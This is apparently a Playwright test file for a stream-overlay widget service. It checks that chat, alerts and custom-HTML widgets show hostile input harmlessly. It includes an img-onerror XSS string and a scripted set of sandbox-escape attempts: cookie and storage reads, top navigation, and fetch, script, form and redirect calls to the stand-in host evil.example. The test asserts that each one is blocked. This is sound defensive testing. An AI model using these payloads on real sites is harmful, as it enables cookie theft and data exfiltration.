import type { BrowserContext } from "@playwright/test";
import { expect, type Page, test } from "../fixtures.ts";
import { createLiveChannel, say } from "../harness/chat-room.ts";
import type { Control } from "../harness/control.ts";
import type { Session } from "../harness/session.ts";

type Json = Record<string, unknown>;
type Setup = { page: Page; juno: Session; control: Control; channelId: string };
type Widget = { id: string; name: string; settings: Json; css: string };

const EVIL = "https://evil.example";
const HOSTILE = "<img src=x onerror='document.title=1'> for the fox fund";

async function create({ juno, channelId }: Setup, type: string, settings: Json, css = ""): Promise<Widget> {
  const body = { name: `My ${type}`, type, settings, css };
  return juno.post<Widget>(`/channels/${channelId}/widgets`, body);
}

async function addressOf({ juno, channelId }: Setup, widget: Widget): Promise<string> {
  const { path } = await juno.get<{ path: string }>(`/channels/${channelId}/widgets/${widget.id}/key`);
  return path;
}

async function open(setup: Setup, widget: Widget): Promise<void> {
  await setup.page.goto(await addressOf(setup, widget));
}

const line = (page: Page, text: string) => page.locator(".chat-line").filter({ hasText: text });
const alert = (page: Page) => page.locator(".alert:not([data-leaving])");

async function showChat(setup: Setup) {
  const { page, juno, control, channelId } = setup;
  const widget = await create(setup, "chat", {}, ".chat-name { text-transform: uppercase }");
  await open(setup, widget);
  await say(control, "twitch", "hello from twitch");
  await say(control, "kick", HOSTILE);
  await expect(line(page, "hello from twitch")).toBeVisible();
  await expect(line(page, HOSTILE)).toHaveCount(1);
  await expect(page.locator(".chat-line img")).toHaveCount(0);
  await expect(page.locator(".chat-name").first()).toHaveCSS("text-transform", "uppercase");
  await expect(page.locator("body")).toHaveCSS("background-color", "rgba(0, 0, 0, 0)");
  const { message_id } = await say(control, "twitch", "soon gone");
  await expect(line(page, "soon gone")).toBeVisible();
  await control.post("/twitch/delete", { login: "junoplays", message_id });
  await expect(line(page, "soon gone")).toHaveCount(0);
  await page.reload();
  await expect(line(page, "hello from twitch")).toBeVisible();
  await expect(line(page, "soon gone")).toHaveCount(0);
  const sources = await juno.get<{ records: Json[] }>(`/channels/${channelId}/widgets/${widget.id}/sources`);
  expect(sources.records).toMatchObject([{ width: 1920, height: 1080 }]);
  await juno.post(`/channels/${channelId}/widgets/${widget.id}/key`);
  await expect(page.locator("#widget")).toBeEmpty();
  await open(setup, widget);
  await expect(line(page, "hello from twitch")).toBeVisible();
}

const RULES = [
  {
    name: "Super Chats",
    kinds: ["super_chat"],
    variants: [{ text: "{name} gave {amount}", message: "{message}", duration_seconds: 60 }],
  },
  { name: "Raids", kinds: ["raid"], variants: [{ text: "{count} raiders with {name}", duration_seconds: 60 }] },
];

async function showAlerts(setup: Setup) {
  const { page, juno, control, channelId } = setup;
  const widget = await create(setup, "alerts", { rules: RULES });
  await open(setup, widget);
  await control.post("/youtube/pay", { login: "junoplays", amount: 2000, text: HOSTILE });
  await expect(alert(page)).toContainText("gave $20.00");
  await expect(alert(page).locator(".alert-message")).toHaveText(HOSTILE);
  await expect(alert(page).locator("img")).toHaveCount(0);
  await control.post("/twitch/raid", { login: "junoplays", viewer: "odalys_", viewers: 214 });
  // A source that is loaded again shows the rest of its alert, and no second one.
  await page.reload();
  await expect(alert(page)).toContainText("gave $20.00");
  await expect(alert(page)).toHaveCount(1);
  await juno.post(`/channels/${channelId}/widgets/${widget.id}/alerts/skip`);
  await expect(alert(page)).toContainText("214 raiders with");
  await expect(alert(page)).toHaveCount(1);
}

/** Tries everything and writes down what happened. */
const ATTACKS = `
  const log = (name, result) => { const p = document.createElement("p"); p.textContent = name + ": " + result; document.body.append(p); };
  const attempt = (name, work) => { try { log(name, work() ?? "done"); } catch (error) { log(name, "blocked"); } };
  attempt("parent", () => parent.document.title);
  attempt("storage", () => localStorage.length);
  attempt("cookie", () => document.cookie);
  attempt("top", () => { top.location.href = "${EVIL}/top"; });
  attempt("window", () => (window.open("${EVIL}/window") ? "opened" : "blocked"));
  fetch("${EVIL}/fetch").then(() => log("fetch", "done"), () => log("fetch", "blocked"));
  fetch("/api/2/user").then(() => log("own api", "done"), () => log("own api", "blocked"));
  const image = new Image(); image.onerror = () => log("image", "blocked"); image.onload = () => log("image", "done");
  image.src = "${EVIL}/image";
  const script = document.createElement("script"); script.src = "${EVIL}/script.js";
  script.onerror = () => log("script", "blocked"); document.head.append(script);
  const form = document.createElement("form"); form.action = "${EVIL}/form"; document.body.append(form);
  attempt("form", () => { form.submit(); return "blocked"; });
  greenroom.on("activity", (activity) => log("activity", activity.name + " " + activity.kind));
  log("field", greenroom.fields.greeting);
`;

async function refuseAttacks(setup: Setup, context: BrowserContext) {
  const { page, juno, channelId } = setup;
  const reached: string[] = [];
  await context.route(`${EVIL}/**`, (route) => {
    reached.push(route.request().url());
    return route.fulfill({ body: "" });
  });
  const fields = [{ key: "greeting", label: "Greeting", value: "hi there" }];
  const css = `body { background: url(${EVIL}/css) } @import url(${EVIL}/import);`;
  const widget = await create(setup, "custom_html", { html: "<b>custom</b>", css, script: ATTACKS, fields });
  await open(setup, widget);
  const frame = page.frameLocator("iframe.custom");
  for (const name of ["parent", "storage", "cookie", "top", "window", "fetch", "own api", "image", "script", "form"]) {
    await expect(frame.getByText(`${name}: blocked`, { exact: true })).toBeVisible();
  }
  await expect(frame.getByText("field: hi there")).toBeVisible();
  await juno.post(`/channels/${channelId}/widgets/${widget.id}/test`, { name: "raid" });
  await expect(frame.getByText("activity: Hanna Lindqvist raid")).toBeVisible();
  // Led to another page, the frame would carry data out.
  const leave = `location.href = "${EVIL}/leave?data=1";`;
  await juno.put(`/channels/${channelId}/widgets/${widget.id}`, {
    name: widget.name,
    settings: { script: leave },
  });
  await expect(frame.getByText("field: hi there")).toHaveCount(0);
  await juno.put(`/channels/${channelId}/widgets/${widget.id}`, {
    name: widget.name,
    settings: { html: "<b>quiet again</b>" },
  });
  await expect(frame.getByText("quiet again")).toBeVisible();
  expect(reached).toEqual([]);
  expect(context.pages()).toHaveLength(1);
}

test.use({ viewport: { width: 1920, height: 1080 } });

test("a widget's page is shown, and hostile text and code do nothing", async ({ page, context, enter, control }) => {
  const juno = await enter(page, "junoplays");
  const channelId = await createLiveChannel(juno, control);
  const setup = { page, juno, control, channelId };
  await test.step("chat lines come and go, and a replaced key leaves the page blank [P7 R5]", () => showChat(setup));
  await test.step("alerts follow each other, also across a reload [P7]", () => showAlerts(setup));
  await test.step("own code gets events and reaches nothing [P7]", () => refuseAttacks(setup, context));
});
